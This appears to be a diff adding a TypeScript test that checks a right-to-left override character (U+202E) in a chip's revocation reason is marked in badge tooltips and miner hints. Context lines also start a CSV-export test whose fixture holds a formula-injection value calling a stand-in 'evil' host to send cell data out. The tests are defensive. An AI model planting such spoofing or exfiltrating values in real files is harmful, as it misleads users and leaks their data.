@@ -248,6 +248,36 @@ describe('chain text and the CSV export', () => {
     assert.doesNotMatch(slots, /class="[^"]*answered/);
   });
 
+  test("a chip's revocation reason (chain text) is shown with its hidden characters marked: badge tooltip, miner hints", () => {
+    const chip = (status: string) => ({
+      chipId: 'c0'.repeat(32),
+      status,
+      statusReason: `stolen\u202E0001`,
+      online: false,
+      consecutiveMisses: 0,
+      lastAnsweredAt: 0,
+      registeredAt: 1,
+    });
+    for (const status of ['revoked', 'deregistered']) {
+      const badge = reactServer.renderToString(
+        react.createElement(chips.ChipStatusBadge, { chip: chip(status) }),
+      );
+      assert.doesNotMatch(badge, /\u202E/, status);
+      assert.match(badge, /title="stolen⟨U\+202E⟩0001"/, status);
+      const hints = poci.minerHints([chip(status)], {
+        epochBlocks: 100,
+        slotsPerEpoch: 4,
+        answerWindowBlocks: 5,
+        offlineAfterMisses: 3,
+      });
+      const html = reactServer
+        .renderToString(react.createElement(chips.HintList, { hints }))
+        .replace(/<!-- -->/g, '');
+      assert.doesNotMatch(html, /\u202E/, status);
+      assert.deepEqual(markers(html), ['U+202E'], status);
+    }
+  });
+
   test('the CSV export: a field a node chose cannot start a spreadsheet formula', () => {
     const row = {
       hash: '=HYPERLINK("http://evil/?"&A1,"refund")',
